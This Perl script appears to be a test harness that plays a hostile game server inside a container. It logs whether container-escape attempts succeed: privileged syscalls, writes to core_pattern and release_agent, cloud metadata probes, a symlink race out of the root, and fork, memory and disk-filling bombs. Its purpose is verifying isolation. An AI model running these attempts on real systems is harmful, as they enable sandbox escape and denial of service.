# What a hostile game server tries, in perl because Debian's minimal image has it. Each attack writes one JSON line to $OUT:
# {"id": ..., "won": 0 or 1, "how": ...}. It names no system call that could harm the machine if it were let through.
# With AS=control the same attempts are made in a container without walls, which proves that they are real.
use strict; use warnings; use Socket qw(:all); use Errno qw(:POSIX); use Fcntl; use POSIX (); use IO::Handle;

my $OUT = $ENV{OUT} || '/home/container/results.jsonl';
my $HOME = $ENV{HOME} || '/home/container';
my $control = ($ENV{AS} || '') eq 'control';
open(my $out, '>>', $OUT) or die "results: $!"; $out->autoflush(1);
$| = 1;

sub told { my ($id, $won, $how) = @_; $how //= ''; $how =~ s/[^ -!#-\[\]-~]/?/g; printf $out qq({"id": "%s", "won": %d, "how": "%s"}\n), $id, $won ? 1 : 0, substr($how, 0, 200) }
sub attack { my ($id, $try) = @_; $! = 0; my $got = eval { $try->() }; my $why = $@ || "$!"; told($id, $got, $got ? $got : $why) }

my $arm = (POSIX::uname())[4] eq 'aarch64';
sub nr { $_[$arm ? 1 : 0] }
# a call is refused when the kernel says so before it looks at what it was given; in a child, since some would change where we are
sub call { my ($id, $number, @arguments) = @_;
    my $child = fork(); die "fork: $!\n" unless defined $child;
    if ($child) { waitpid($child, 0); return }
    $! = 0; my $answer = syscall($number, @arguments); my $code = $! + 0;
    my $refused = $answer < 0 && ($code == EPERM || $code == EACCES || $code == ENOSYS);
    told($id, !$refused, $answer < 0 ? "$!" : "answered $answer"); POSIX::_exit(0) }

sub kernel {
    my ($none, $name) = (0, "nothing\0");
    call('mount', nr(165, 40), my $a = "none\0", my $b = "/tmp\0", my $c = "tmpfs\0", 0, 0);
    call('chroot', nr(161, 51), my $d = "/tmp\0");
    call('user_namespace', nr(272, 97), 0x10000000);
    call('mount_namespace', nr(272, 97), 0x00020000);
    call('open_by_handle', nr(304, 265), -1, my $e = "\0" x 64, 0);
    call('kernel_module', nr(175, 105), my $f = "\0" x 8, 8, my $g = "\0");
    call('kexec', nr(246, 104), 0, 0, 0, -1);
    call('reboot', nr(169, 142), 0, 0, 0, 0);
    call('kernel_log', nr(103, 116), 3, my $h = "\0" x 4096, 4096);
    call('keyring', nr(248, 217), my $i = "user\0", my $j = "evil\0", my $k = "x\0", 1, -3);
    call('bpf', nr(321, 280), 0, my $l = "\0" x 128, 128);
    call('perf_events', nr(298, 241), my $m = "\0" x 128, 0, -1, -1, 0);
    call('clock', nr(227, 112), 0, my $n = pack('qq', -1, -1));
    call('hostname', nr(170, 161), my $o = "evil", 4);
    call('swap', nr(167, 224), my $p = "/nonexistent\0", 0);
    attack('raw_socket', sub { socket(my $s, PF_INET, SOCK_RAW, 1) && 'opened' });
    attack('packet_socket', sub { socket(my $s, 17, SOCK_RAW, 0x0300) && 'opened' });
    attack('device', sub { my $number = $arm ? 33 : 133; my @at = $arm ? (-100) : ();
        my $path = '/tmp/disk' . "\0"; syscall($number, @at, $path, 0060644, 0x0100) == 0 && 'made a block device' });
    attack('nice', sub { setpriority(0, 0, -10) && 'raised' });
    attack('new_owner', sub { open(my $f, '>', "$HOME/owned") or return; chown(0, 0, "$HOME/owned") && 'gave it to root' });
    attack('become_root', sub { POSIX::setuid(0) && $> == 0 && 'uid 0' });
    attack('sysctl', sub { open(my $f, '+<', '/proc/sys/kernel/core_pattern') && 'opened core_pattern for writing' });
    attack('sysrq', sub { open(my $f, '+<', '/proc/sysrq-trigger') && 'opened' });
    attack('kernel_memory', sub { open(my $f, '<', '/proc/kcore') && sysread($f, my $x, 16) && 'read' });
    attack('sys_write', sub { for my $file (glob('/sys/kernel/mm/transparent_hugepage/enabled /sys/kernel/uevent_helper /sys/block/*/ro /sys/module/*/parameters/*')) { return "opened $file" if sysopen(my $f, $file, O_RDWR) } 0 });
    attack('own_limits', sub { for my $file (glob('/sys/fs/cgroup/*/memory.limit_in_bytes /sys/fs/cgroup/*/pids.max /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids.max /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/release_agent')) { return "opened $file" if sysopen(my $f, $file, O_WRONLY) } 0 });
    attack('image', sub { for my $file ('/etc/evil', '/usr/bin/evil', '/evil', '/entrypoint.sh') { return "wrote $file" if sysopen(my $f, $file, O_WRONLY | O_CREAT | O_APPEND) } 0 });
    attack('engine_socket', sub { my @found = grep { -S $_ } glob('/run/* /run/*/* /var/run/* /var/run/*/* /*.sock /tmp/*'); @found ? "@found" : 0 });
    attack('others_processes', sub { my $mine = 0; my @seen = grep { /^\d+$/ } map { s{^/proc/}{}r } glob('/proc/[0-9]*'); my @others = grep { my $root = readlink("/proc/$_/root"); !defined $root } @seen; @others ? "@others" : 0 });
    attack('host_disk', sub { for my $device (glob('/dev/vd* /dev/sd* /dev/nvme* /dev/mem /dev/kmsg /dev/fuse /dev/net/tun')) { return "opened $device" if sysopen(my $f, $device, O_RDWR) } 0 });
}

sub setuid_program { attack('setuid_program', sub {
    my ($program) = grep { -u $_ } qw(/usr/bin/su /bin/su /usr/bin/passwd); die "the image has no setuid program\n" unless $program;
    my $child = fork(); die "fork\n" unless defined $child;
    if (!$child) { open(STDIN, '<', '/dev/zero'); open(STDOUT, '>', '/dev/null'); open(STDERR, '>', '/dev/null'); pipe(my $r, my $w); open(STDIN, '<&', $r); exec($program, $program eq '/usr/bin/passwd' ? () : ('root')) or POSIX::_exit(1) }
    my $won = 0;
    for (1 .. 100) { my ($name, $uids) = ('', ''); if (open(my $f, '<', "/proc/$child/status")) { while (<$f>) { $name = $1 if /^Name:\s*(\S+)/; $uids = $1 if /^Uid:\s*(.*)/ } }
        if ($name ne 'perl') { my @ids = split ' ', $uids; $won = 'its effective uid is 0' if @ids > 1 && $ids[1] == 0 && $ids[0] != 0; last }
        select(undef, undef, undef, 0.02) }
    kill('KILL', $child); waitpid($child, 0); $won }) }

sub dial { my ($host, $port, $any) = @_; my $address = inet_aton($host) or die "no such name\n";
    socket(my $s, PF_INET, SOCK_STREAM, 0) or die "socket: $!\n";
    local $SIG{ALRM} = sub { die "silence\n" }; alarm(3);
    my $ok = connect($s, sockaddr_in($port, $address)); my $why = "$!"; my $got = '';
    if ($ok && !$any) { my $x; $got = sysread($s, $x, 64) ? $x : '' } alarm(0);
    return 'connected' if $ok && $any;
    return $got =~ /canary/ ? "it said $got" : do { die "$why\n" } }

sub network {
    my %at = map { /^AT_(.*)/ ? (lc $1 => $ENV{$_}) : () } keys %ENV;
    for my $id (sort keys %at) { my ($host, $port) = $at{$id} =~ /^(.*):(\d+)$/; attack("dial_$id", sub { dial($host, $port, $id eq 'agent') }) }
    if (my $victim = $ENV{VICTIM}) { my ($host, $port) = split /:/, $victim;
        attack('neighbour_by_name', sub { dial($ENV{VICTIM_NAME}, $port) });
        for my $to ($host, '255.255.255.255', $host =~ s/\d+$/255/r) { socket(my $s, PF_INET, SOCK_DGRAM, 0); setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1); send($s, "evil to $to", 0, sockaddr_in($port, inet_aton($to))) }
    }
    attack('metadata', sub { dial('169.254.169.254', 80) });
    attack('metadata_elsewhere', sub { dial('100.100.100.200', 80) });
}

sub resources {
    attack('fork_bomb', sub { my @children; my $failed = 0;
        while (@children < 400) { my $child = fork(); if (!defined $child) { $failed = 1; last } if (!$child) { sleep 60; POSIX::_exit(0) } push @children, $child }
        kill('KILL', @children); waitpid($_, 0) for @children; $failed ? 0 : scalar(@children) . ' processes' });
    attack('full_tmp', sub { open(my $f, '>', '/tmp/full') or die; my $chunk = 'x' x 1048576; my $written = 0;
        while ($written < 64) { last unless defined syswrite($f, $chunk) && ++$written } my $left = -s '/tmp/full'; unlink '/tmp/full'; $left >= 64 * 1048576 ? "$left bytes" : 0 });
    attack('inode_flood', sub { mkdir '/tmp/many'; my $made = 0;
        while ($made < 5000) { sysopen(my $f, "/tmp/many/$made", O_WRONLY | O_CREAT) or last; $made++ } my $why = $!; unlink glob('/tmp/many/*'); $! = $why; $made >= 5000 ? "$made files" : 0 });
    attack('memory_bomb', sub { my $child = fork(); die "fork\n" unless defined $child;
        if (!$child) { if (open(my $f, '>', '/proc/self/oom_score_adj')) { print $f 1000; close $f } my @kept; push @kept, 'x' x 8388608 for 1 .. 200; POSIX::_exit(0) }
        waitpid($child, 0); $? == 0 ? 'took 1.6 GB' : 0 });
    attack('core_dump', sub { my $child = fork(); if (!$child) { chdir $HOME; kill('SEGV', $$); sleep 5; POSIX::_exit(0) } waitpid($child, 0); my @cores = glob("$HOME/core* /tmp/core*"); @cores || ($? & 128) ? "@cores" || 'dumped' : 0 });
    attack('more_files', sub { require 'syscall.ph' if 0; my $limit = pack('QQ', 1 << 30, 1 << 30); my $number = $arm ? 164 : 160; syscall($number, 7, $limit) == 0 && 'raised its limit of open files' });
}

sub flood { my $line = 'f' x 1000; print "$line\n" for 1 .. 6000; print 'h' x 8_000_000, "\n"; told('flood', 1, 'said 14 MB') }

if (($ENV{AS} || '') eq 'friend') { network(); told('done', 1, ''); print "ready\n"; sleep 600; exit 0 }
kernel(); setuid_program(); network() unless $control;
unless ($control) { resources(); flood() }
told('done', 1, '');
print "ready\n";
exit 0 if $control;
# the race: a name that is a folder, then a link out of the root, then a folder again, until told to end
my $outside = $ENV{OUTSIDE};
mkdir "$HOME/real"; symlink($outside, "$HOME/link");
my $ending = 0; $SIG{TERM} = sub { $ending = 1 };
my $bits = ''; vec($bits, 0, 1) = 1; my $flips = 0;
while (!$ending) {
    rename("$HOME/real", "$HOME/p"); rename("$HOME/p", "$HOME/real"); rename("$HOME/link", "$HOME/p"); rename("$HOME/p", "$HOME/link");
    if (++$flips % 50 == 0) { last if select(my $ready = $bits, undef, undef, 0) }
}
told('flips', 1, $flips);
